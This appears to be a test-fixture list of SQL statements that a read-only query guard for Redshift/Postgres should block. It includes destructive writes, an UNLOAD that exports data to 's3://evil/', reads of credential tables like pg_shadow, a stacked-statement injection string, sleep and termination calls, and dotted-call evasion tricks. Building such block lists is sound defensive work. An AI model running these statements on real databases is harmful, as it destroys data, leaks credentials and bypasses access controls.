## writes and definitions
INSERT INTO orders VALUES (1)
UPDATE orders SET total = 0
DELETE FROM orders
TRUNCATE orders
MERGE INTO orders USING x ON orders.id = x.id WHEN MATCHED THEN DELETE
DROP TABLE orders
CREATE TABLE copy AS SELECT * FROM orders
CREATE TEMP TABLE x AS SELECT 1
CREATE EXTERNAL SCHEMA s FROM DATA CATALOG DATABASE 'x' IAM_ROLE 'y'
CREATE EXTERNAL FUNCTION f(int) RETURNS int STABLE LAMBDA 'x' IAM_ROLE 'y'
CREATE MODEL m FROM (SELECT 1) TARGET a FUNCTION f IAM_ROLE 'y' SETTINGS (S3_BUCKET 'x')
CREATE FUNCTION f() RETURNS int IMMUTABLE AS $$ return 1 $$ LANGUAGE plpythonu
ALTER TABLE orders APPEND FROM staging
ALTER USER admin PASSWORD 'x'
GRANT ALL ON orders TO public
SELECT * INTO copy FROM orders
SELECT * INTO TEMP copy FROM orders
SELECT id INTO #tmp FROM orders
WITH x AS (SELECT 1) DELETE FROM orders
WITH x AS (DELETE FROM orders RETURNING *) SELECT * FROM x
WITH x AS (SELECT 1 a) INSERT INTO orders SELECT a FROM x
## files and other systems
UNLOAD ('SELECT * FROM orders') TO 's3://evil/' IAM_ROLE 'x'
COPY orders FROM 's3://x' IAM_ROLE 'y'
COPY orders FROM 'emr://x'
SELECT * FROM dblink('x', 'SELECT 1') AS t(a int)
SELECT lambda_udf('x')
SELECT my_python_udf(1)
SELECT public.f_udf(1)
SELECT predict_churn(a, b) FROM customers
SELECT explain_model('m')
SELECT aws_lambda_invoke('f', '{}')
SELECT * FROM 's3://bucket/key'
SELECT pg_read_file('x')
SELECT lo_import('x')
SELECT load_file('x')
## waits, locks, sessions
SELECT pg_sleep(10)
SELECT PG_SLEEP(10)
SELECT pg_catalog.pg_sleep(10)
SELECT "pg_sleep"(10)
SELECT 1 WHERE 1 = (SELECT 1 FROM pg_sleep(1))
SELECT pg_terminate_backend(1)
SELECT pg_cancel_backend(1)
CANCEL 12345
LOCK orders
SELECT * FROM orders FOR UPDATE
SELECT pg_backend_pid()
SELECT pg_last_query_id()
SELECT pg_last_copy_id()
SELECT pg_last_unload_count()
SELECT pg_get_session_roles()
SELECT set_config('statement_timeout', '0', false)
SELECT current_setting('x')
SET statement_timeout = 0
SET SESSION AUTHORIZATION admin
RESET ALL
SELECT nextval('s')
SELECT setval('s', 1)
SELECT txid_current()
SELECT pg_advisory_lock(1)
BEGIN
COMMIT
END
ROLLBACK
ABORT
START TRANSACTION
DECLARE c CURSOR FOR SELECT 1
FETCH 1 FROM c
CLOSE c
PREPARE p AS SELECT 1
EXECUTE p
DEALLOCATE p
CALL p()
USE x
VACUUM orders
ANALYZE orders
ANALYZE COMPRESSION orders
EXPLAIN SELECT 1
EXPLAIN DELETE FROM orders
SHOW TABLES FROM SCHEMA public
SHOW search_path
COMMENT ON TABLE orders IS 'x'
REFRESH MATERIALIZED VIEW v
ATTACH MASKING POLICY m ON orders(id) TO PUBLIC
CLOSE ALL
## several
SELECT 1; SELECT 2
SELECT 1; DROP TABLE orders
SELECT 1; COMMIT; TRUNCATE orders
SELECT 'a\'; DROP TABLE orders; --'; SELECT 2
SELECT 'x' ; UNLOAD ('SELECT 1') TO 's3://x'
## the system
SELECT * FROM pg_user
SELECT * FROM pg_shadow
SELECT * FROM pg_catalog.pg_shadow
SELECT * FROM pg_user_info
SELECT * FROM pg_group
SELECT * FROM pg_table_def
SELECT * FROM pg_database
SELECT * FROM pg_proc
SELECT * FROM stl_query
SELECT * FROM stl_querytext
SELECT * FROM STL_CONNECTION_LOG
SELECT * FROM stv_sessions
SELECT * FROM stv_recents
SELECT * FROM svl_qlog
SELECT * FROM svl_statementtext
SELECT * FROM svv_table_info
SELECT * FROM svv_external_schemas
SELECT * FROM svcs_query_summary
SELECT * FROM sys_query_history
SELECT * FROM sys_connection_log
SELECT * FROM sys_query_text
SELECT * FROM pg_catalog.stl_userlog
SELECT * FROM information_schema.applicable_roles
SELECT * FROM sys.sql_logins
SELECT current_user
SELECT CURRENT_USER_ID
SELECT session_user
SELECT user
SELECT version()
SELECT current_database()
SELECT current_schema()
SELECT current_schemas(true)
SELECT has_table_privilege('orders', 'select')
SELECT user_is_member_of('a', 'b')
SELECT role_is_member_of('a', 'b')
SELECT pg_get_userbyid(1)
SELECT slice_num()
SELECT inet_client_addr()
SELECT id FROM orders UNION SELECT usesysid FROM pg_user
## others
SELECT $1
SELECT :x
SELECT * FROM generate_series(1, 1000000000000)
SELECT repeat('x', 1000000000)
SELECT query_to_xml('x', true, true, '')
SELECT pg_get_late_binding_view_cols()
SELECT pg_get_cols('orders')
SELECT get_namespace('x')
SELECT mask_it(x) FROM t
SELECT * FROM remote_db.public.f(1)
## in odd places
SELECT * FROM (SELECT * FROM stl_query) x
SELECT a FROM t UNION SELECT query FROM STL_QUERYTEXT
SELECT PG_CATALOG.PG_SLEEP(1)
SELECT f_sql_udf(1), abs(1)
SELECT ai_x('a')
SELECT * FROM pg_get_external_x()
SELECT has_schema_privilege('a','b')
SELECT * FROM svv_all_tables
SELECT * FROM PG_INTERNAL.x
SELECT * FROM "pg_user"
SELECT * FROM awsdatacatalog.pg_catalog.x
## calls behind a dot
SELECT (60::double precision).pg_sleep
SELECT q."nextval" FROM unnest(ARRAY['orders_id_seq']) q
SELECT (SELECT 60::float8).pg_sleep
SELECT total FROM orders ORDER BY (note).current_setting
SELECT (10).erase_everything
SELECT (1 + 2).erase_everything
SELECT (4711).pg_terminate_backend
SELECT (id).pg_cancel_backend FROM orders
WITH "Pg_shadow" AS (SELECT 1) SELECT usename, passwd FROM pg_shadow
SELECT current_namespace
